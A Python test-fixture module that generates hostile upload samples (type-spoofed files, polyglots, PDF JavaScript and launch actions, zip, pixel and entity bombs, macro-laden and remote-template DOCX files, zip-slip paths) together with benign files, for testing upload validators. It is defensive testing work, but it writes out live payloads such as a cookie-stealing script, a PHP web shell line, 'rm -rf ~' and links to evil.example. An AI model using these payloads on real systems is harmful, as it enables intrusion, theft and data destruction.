"""Files that an upload must refuse, made here rather than committed as binaries, and honest
files that it must accept.

``corpus(limit)`` returns every hostile file with the reason the check must give (the ``code``
of its ValidationError). ``honest()`` returns one real file of each accepted kind. Other apps'
upload tests import both: every page that takes a file is tried with the whole corpus.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
RELS = "application/vnd.openxmlformats-package.relationships+xml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Sample:
    label: str  # what the file is, for the test's id
    filename: str  # the name it arrives with
    data: bytes
    reason: str = ""  # the refusal's code; empty for an honest file
    content_type: str = "application/octet-stream"  # what the browser claims


# --- Builders of real files ------------------------------------------------------------------


def pdf(*objects: bytes, header: bytes = b"%PDF-1.7\n", tail: bytes = b"") -> bytes:
    """A PDF with a page saying "Протокол" and the given extra objects (numbered from 4)."""
    body = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    out = io.BytesIO()
    out.write(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(body, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref)
    )
    return out.getvalue() + tail


def object_stream(inside: bytes, *, packed: bytes | None = None) -> bytes:
    packed = zlib.compress(inside) if packed is None else packed
    return (
        b"<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream"
    )


def image(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **options) -> bytes:
    out = io.BytesIO()
    picture = Image.new("RGB", size, (200, 30, 40))
    picture.save(out, format=kind, **options)
    return out.getvalue()


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)
    )


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels (a pixel bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + png_chunk(b"IEND", b"")
    )


def content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    defaults = {"rels": RELS, "xml": "application/xml", **(defaults or {})}
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="{CT_NS}">'
        + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults.items())
        + "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in overrides.items())
        + "</Types>"
    )


def relationships(*relations: tuple[str, str, str]) -> str:
    """(type, target, mode) triples; mode "External" or ""."""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{REL_NS}">'
        + "".join(
            f'<Relationship Id="rId{n}" Type="{t}" Target="{target}"'
            + (f' TargetMode="{mode}"' if mode else "")
            + "/>"
            for n, (t, target, mode) in enumerate(relations, start=1)
        )
        + "</Relationships>"
    )


def package(parts: dict[str, bytes | str], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content.encode() if isinstance(content, str) else content)
    return out.getvalue()


def docx_parts(text: str = "Протокол №1: ң ө ү", **extra: bytes | str) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": content_types({"word/document.xml": WORD_MAIN}),
        "_rels/.rels": relationships((OFFICE_REL + "/officeDocument", "word/document.xml", "")),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w='
            '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
            f"<w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
        ),
        **extra,
    }


def docx(**extra: bytes | str) -> bytes:
    return package(docx_parts(**extra))


def xlsx_parts(**extra: bytes | str) -> dict[str, bytes | str]:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return {
        "[Content_Types].xml": content_types(
            {"xl/workbook.xml": EXCEL_MAIN, "xl/worksheets/sheet1.xml": SHEET}
        ),
        "_rels/.rels": relationships((OFFICE_REL + "/officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": (
            f'<workbook xmlns="{main}" xmlns:r="{OFFICE_REL}"><sheets>'
            '<sheet name="Мугалимдер" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": relationships(
            (OFFICE_REL + "/worksheet", "worksheets/sheet1.xml", "")
        ),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is>'
            "<t>Өмүрбеков Үсөн</t></is></c></row></sheetData></worksheet>"
        ),
        **extra,
    }


def xlsx(**extra: bytes | str) -> bytes:
    return package(xlsx_parts(**extra))


def patch_central_directory(data: bytes, **fields: int) -> bytes:
    """Rewrite fields of every central-directory record: ``flags`` or ``size`` (unpacked)."""
    out = bytearray(data)
    position = out.find(b"PK\x01\x02")
    while position >= 0:
        if "flags" in fields:
            struct.pack_into("<H", out, position + 8, fields["flags"])
        if "size" in fields:
            struct.pack_into("<I", out, position + 24, fields["size"])
        position = out.find(b"PK\x01\x02", position + 4)
    return bytes(out)


def overlapping(copies: int = 40) -> bytes:
    """A "better zip bomb": many directory records, each naming one and the same compressed
    part (the total they claim to hold is far more than the archive has)."""
    one = package({"word/m/aaaa.xml": "<a>" + "я" * 400_000 + "</a>"})
    directory_at = one.find(b"PK\x01\x02")
    end_at = one.find(b"PK\x05\x06")
    record = one[directory_at:end_at]
    records = b"".join(
        record.replace(b"word/m/aaaa.xml", b"word/m/%04d.xml" % n) for n in range(copies)
    )
    end = bytearray(one[end_at:])
    struct.pack_into("<HHII", end, 8, copies, copies, len(records), directory_at)
    return one[:directory_at] + records + bytes(end)


def png_with_bad_checksum() -> bytes:
    data = bytearray(image("PNG"))
    at = data.find(b"IDAT") + 4
    data[at] ^= 0xFF  # the chunk's checksum no longer matches
    return bytes(data)


def ole() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"WordDocument" + b"\x00" * 1000


# --- The corpus ------------------------------------------------------------------------------

PAGE = b"<!DOCTYPE html><html><body><script>fetch('/x?c='+document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
MACRO_DOCX_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_XLSX_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
VBA_TYPE = "application/vnd.ms-office.vbaProject"


def corpus(limit: int) -> list[Sample]:
    """Every hostile file, for an upload limit of ``limit`` bytes."""
    jpeg, png = image("JPEG"), image("PNG")
    samples = [
        # Type spoofing: the name (and the browser's claim) says one thing, the bytes another.
        Sample("html named pdf", "отчёт.pdf", PAGE, "unknown_type", "application/pdf"),
        Sample("html named jpg", "photo.jpg", PAGE, "unknown_type", "image/jpeg"),
        Sample("html named png", "scan.png", PAGE, "unknown_type", "image/png"),
        Sample("html named docx", "план.docx", PAGE, "unknown_type"),
        Sample("html named xlsx", "roster.xlsx", PAGE, "unknown_type"),
        Sample("svg with script", "logo.svg", SVG, "unknown_type", "image/svg+xml"),
        Sample("svg named png", "logo.png", SVG, "unknown_type", "image/png"),
        Sample("svg named pdf", "logo.pdf", SVG, "unknown_type", "application/pdf"),
        Sample("xhtml named xlsx", "t.xlsx", b'<?xml version="1.0"?>' + PAGE, "unknown_type"),
        Sample("eicar text named pdf", "акт.pdf", EICAR, "unknown_type", "application/pdf"),
        Sample(
            "windows program named pdf", "scan.pdf", b"MZ\x90\x00" + b"\x00" * 200, "unknown_type"
        ),
        Sample(
            "linux program named docx",
            "a.docx",
            b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
            "unknown_type",
        ),
        Sample("shell script named xlsx", "a.xlsx", b"#!/bin/sh\nrm -rf ~\n", "unknown_type"),
        Sample("php named jpg", "a.jpg", b"<?php system($_GET['c']); ?>", "unknown_type"),
        Sample("gif", "a.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "unknown_type"),
        Sample("rtf named docx", "a.docx", b"{\\rtf1\\ansi{\\object\\objemb}}", "unknown_type"),
        Sample("html before a pdf", "a.pdf", PAGE + pdf(), "unknown_type", "application/pdf"),
        Sample("pdf header late", "a.pdf", b"\x00" * 100 + pdf(), "unknown_type"),
        # Polyglots: a real file of an accepted kind that is also a page or an archive.
        Sample(
            "pdf then html", "a.pdf", pdf(header=b"%PDF-1.7\n" + PAGE + b"\n"), "hidden_content"
        ),
        Sample("pdf ending in html", "a.pdf", pdf(tail=PAGE), "hidden_content"),
        Sample("pdf and zip", "a.pdf", pdf() + package({"x.html": PAGE}), "hidden_content"),
        Sample("jpeg and zip", "a.jpg", jpeg + package({"x.html": PAGE}), "hidden_content"),
        Sample(
            "jpeg with html in its comment",
            "a.jpg",
            jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(PAGE) + 2) + PAGE + jpeg[2:],
            "hidden_content",
        ),
        Sample("png with data after its end", "a.png", png + b"trailing bytes", "hidden_content"),
        Sample("png and zip", "a.png", png + package({"x": b"y"}), "hidden_content"),
        Sample(
            "png with html in a text chunk",
            "a.png",
            png[:33] + png_chunk(b"tEXt", b"Comment\x00" + PAGE) + png[33:],
            "hidden_content",
        ),
        Sample("eicar inside a pdf", "a.pdf", pdf(b"<< /T (" + EICAR + b") >>"), "virus_signature"),
        Sample(
            "eicar inside a docx",
            "a.docx",
            package(docx_parts(**{"word/e.txt": EICAR}), compression=zipfile.ZIP_STORED),
            "virus_signature",
        ),
        Sample("docx with html comment", "a.docx", _with_comment(docx(), PAGE), "hidden_content"),
        # PDFs that act.
        Sample(
            "pdf with javascript",
            "a.pdf",
            pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
            "active_content",
        ),
        Sample(
            "pdf with hex-escaped javascript",
            "a.pdf",
            pdf(b"<< /S /J#61vaScript /J#53 (x) >>"),
            "active_content",
        ),
        Sample(
            "pdf that launches a program",
            "a.pdf",
            pdf(b"<< /S /Launch /F (cmd.exe) >>"),
            "active_content",
        ),
        Sample(
            "pdf with an embedded file",
            "a.pdf",
            pdf(b"<< /Type /EmbeddedFile >>"),
            "active_content",
        ),
        Sample("pdf with flash", "a.pdf", pdf(b"<< /Subtype /RichMedia >>"), "active_content"),
        Sample("pdf with an xml form", "a.pdf", pdf(b"<< /XFA 9 0 R >>"), "active_content"),
        Sample(
            "pdf with javascript in an object stream",
            "a.pdf",
            pdf(object_stream(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")),
            "active_content",
        ),
        Sample(
            "encrypted pdf",
            "a.pdf",
            pdf(b"<< /Filter /Standard /V 2 >>").replace(
                b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 4 0 R"
            ),
            "encrypted",
        ),
        Sample("truncated pdf", "a.pdf", pdf()[:-40], "damaged"),
        Sample(
            "pdf with a broken object stream",
            "a.pdf",
            pdf(object_stream(b"", packed=b"not zlib")),
            "damaged",
        ),
        Sample(
            "pdf object stream bomb",
            "a.pdf",
            pdf(object_stream(b"", packed=zlib.compress(b"\x00" * (65 * 1024 * 1024), 9))),
            "bomb",
        ),
        # Broken and oversized pictures.
        Sample("truncated jpeg", "a.jpg", jpeg[: len(jpeg) // 2], "damaged"),
        Sample(
            "jpeg header and noise", "a.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4, "damaged"
        ),
        Sample("png with a bad checksum", "a.png", png_with_bad_checksum(), "damaged"),
        Sample("png pixel bomb", "a.png", png_claiming(10_000, 9_000), "bomb"),
        Sample("png pixel bomb beyond pillow", "a.png", png_claiming(100_000, 100_000), "bomb"),
        # Zip and DOCX bombs.
        Sample(
            "docx ratio bomb",
            "a.docx",
            docx(**{"word/big.xml": b"\x00" * (20 * 1024 * 1024)}),
            "bomb",
        ),
        Sample(
            "docx that claims 4 GB",
            "a.docx",
            patch_central_directory(docx(), size=0xFFFFFFF0),
            "bomb",
        ),
        Sample("zip with overlapping parts", "a.docx", overlapping(), "bomb"),
        Sample(
            "docx with too many parts",
            "a.docx",
            package(docx_parts(**{f"word/p{n}.xml": b"" for n in range(2001)})),
            "bomb",
        ),
        Sample(
            "docx with an entity bomb",
            "a.docx",
            package(
                {
                    **docx_parts(),
                    "[Content_Types].xml": '<?xml version="1.0"?>'
                    '<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">'
                    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                    f'<Types xmlns="{CT_NS}">&b;</Types>',
                }
            ),
            "bomb",
        ),
        Sample(
            "docx with a dtd in its relationships",
            "a.docx",
            package({**docx_parts(), "_rels/.rels": '<!DOCTYPE r SYSTEM "http://evil/x.dtd"><r/>'}),
            "bomb",
        ),
        # Macros and active content.
        Sample(
            "docm renamed docx",
            "a.docx",
            package(
                {
                    **docx_parts(),
                    "[Content_Types].xml": content_types(
                        {"word/document.xml": MACRO_DOCX_TYPE}, {"bin": VBA_TYPE}
                    ),
                    "word/vbaProject.bin": ole(),
                }
            ),
            "macros",
        ),
        Sample(
            "macro content type only",
            "a.docx",
            package(
                {
                    **docx_parts(),
                    "[Content_Types].xml": content_types({"word/document.xml": MACRO_DOCX_TYPE}),
                }
            ),
            "macros",
        ),
        Sample(
            "vba project hidden in a docx",
            "a.docx",
            docx(**{"word/vbaProject.bin": ole()}),
            "macros",
        ),
        Sample(
            "xlsm renamed xlsx",
            "a.xlsx",
            package(
                {
                    **xlsx_parts(),
                    "[Content_Types].xml": content_types(
                        {"xl/workbook.xml": MACRO_XLSX_TYPE}, {"bin": VBA_TYPE}
                    ),
                    "xl/vbaProject.bin": ole(),
                }
            ),
            "macros",
        ),
        Sample(
            "excel 4 macro sheet", "a.xlsx", xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"
        ),
        Sample(
            "activex control", "a.docx", docx(**{"word/activeX/activeX1.xml": "<ax/>"}), "macros"
        ),
        Sample(
            "ole object inside",
            "a.docx",
            docx(**{"word/embeddings/oleObject1.bin": ole()}),
            "macros",
        ),
        Sample(
            "macro workbook inside",
            "a.docx",
            docx(**{"word/embeddings/Book1.xlsm": b"PK"}),
            "macros",
        ),
        Sample(
            "remote template",
            "a.docx",
            docx(
                **{
                    "word/_rels/settings.xml.rels": relationships(
                        (OFFICE_REL + "/attachedTemplate", "http://evil.example/t.dotm", "External")
                    )
                }
            ),
            "macros",
        ),
        Sample(
            "remote ole object (follina)",
            "a.docx",
            docx(
                **{
                    "word/_rels/document.xml.rels": relationships(
                        (OFFICE_REL + "/oleObject", "mhtml:http://evil.example/!x", "External")
                    )
                }
            ),
            "macros",
        ),
        Sample(
            "link to a local file",
            "a.docx",
            docx(
                **{
                    "word/_rels/document.xml.rels": relationships(
                        (
                            OFFICE_REL + "/hyperlink",
                            "file:///C:/Windows/system32/calc.exe",
                            "External",
                        )
                    )
                }
            ),
            "macros",
        ),
        # Encrypted and old formats.
        Sample(
            "encrypted zip parts", "a.docx", patch_central_directory(docx(), flags=0x1), "encrypted"
        ),
        Sample("old word document", "a.doc", ole(), "ole"),
        Sample("password-protected docx", "a.docx", ole(), "ole"),
        # Zips that are not DOCX or XLSX.
        Sample("plain zip named docx", "a.docx", package({"readme.txt": "hi"}), "unknown_type"),
        Sample(
            "opendocument named docx",
            "a.docx",
            package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}),
            "unknown_type",
        ),
        Sample(
            "presentation named docx",
            "a.docx",
            package(
                {
                    "[Content_Types].xml": content_types(
                        {
                            "ppt/presentation.xml": "application/vnd.openxmlformats-officedocument"
                            ".presentationml.presentation.main+xml"
                        }
                    ),
                    "ppt/presentation.xml": "<p/>",
                }
            ),
            "unknown_type",
        ),
        Sample(
            "word template named docx",
            "a.docx",
            package(
                {
                    **docx_parts(),
                    "[Content_Types].xml": content_types(
                        {
                            "word/document.xml": "application/vnd.openxmlformats-officedocument"
                            ".wordprocessingml.template.main+xml"
                        }
                    ),
                }
            ),
            "unknown_type",
        ),
        Sample(
            "docx and xlsx at once",
            "a.docx",
            package(
                {
                    **xlsx_parts(),
                    **docx_parts(),
                    "[Content_Types].xml": content_types(
                        {"word/document.xml": WORD_MAIN, "xl/workbook.xml": EXCEL_MAIN}
                    ),
                }
            ),
            "unknown_type",
        ),
        Sample(
            "docx without its document",
            "a.docx",
            package({k: v for k, v in docx_parts().items() if k != "word/document.xml"}),
            "damaged",
        ),
        Sample(
            "zip slip", "a.docx", docx(**{"../../../etc/cron.d/x": "* * * * * root sh"}), "damaged"
        ),
        Sample("absolute path in zip", "a.docx", docx(**{"/etc/passwd": "x"}), "damaged"),
        Sample("drive letter in zip", "a.docx", docx(**{"C:/autoexec.bat": "x"}), "damaged"),
        Sample("truncated docx", "a.docx", docx()[:200], "damaged"),
        Sample(
            "duplicate parts",
            "a.docx",
            _duplicated(docx(), "word/document.xml"),
            "damaged",
        ),
        Sample(
            "unknown compression",
            "a.docx",
            package(docx_parts(), compression=zipfile.ZIP_BZIP2),
            "damaged",
        ),
        Sample(
            "content types of garbage",
            "a.docx",
            package({**docx_parts(), "[Content_Types].xml": "<Types"}),
            "damaged",
        ),
        # Hostile names carrying hostile content.
        Sample("path traversal name", "../../../../etc/passwd.pdf", PAGE, "unknown_type"),
        Sample("windows path traversal name", "..\\..\\boot.ini.pdf", PAGE, "unknown_type"),
        Sample("very long name", "а" * 5000 + ".pdf", EICAR, "unknown_type"),
        Sample(
            "right-to-left override name", "акт\u202efdp.exe", b"MZ" + b"\x00" * 64, "unknown_type"
        ),
        Sample("control characters in name", "a\x00b\r\nc.pdf", PAGE, "unknown_type"),
        # Size.
        Sample("empty file", "пустой.pdf", b"", "empty", "application/pdf"),
        Sample("oversized pdf", "big.pdf", pdf(b"<< /Pad (" + b"x" * limit + b") >>"), "too_large"),
    ]
    return samples


def _with_comment(data: bytes, comment: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        archive.comment = comment
    return out.getvalue()


def _duplicated(data: bytes, name: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of the duplicate name: the point
            archive.writestr(name, "<w:document/>")
    return out.getvalue()


def honest() -> list[Sample]:
    """One real file of each accepted kind, and the office files' ordinary extras."""
    chart = package(xlsx_parts())
    return [
        Sample("pdf", "Протокол №3.pdf", pdf(b"<< /Title (Protokol) >>")),
        Sample(
            "pdf with a compressed object stream",
            "a.pdf",
            pdf(object_stream(b"5 0 << /Type /Font >>")),
        ),
        Sample("jpeg", "скан.jpeg", image("JPEG", (400, 300))),
        Sample("png", "скан.png", image("PNG", (400, 300))),
        Sample("docx", "Иш планы.docx", docx()),
        Sample("xlsx", "Мугалимдер.xlsx", xlsx()),
        Sample(
            "docx with a web link and a chart",
            "a.docx",
            docx(
                **{
                    "word/_rels/document.xml.rels": relationships(
                        (OFFICE_REL + "/hyperlink", "https://edu.gov.kg/", "External")
                    ),
                    "word/embeddings/Microsoft_Excel_Worksheet.xlsx": chart,
                }
            ),
        ),
    ]
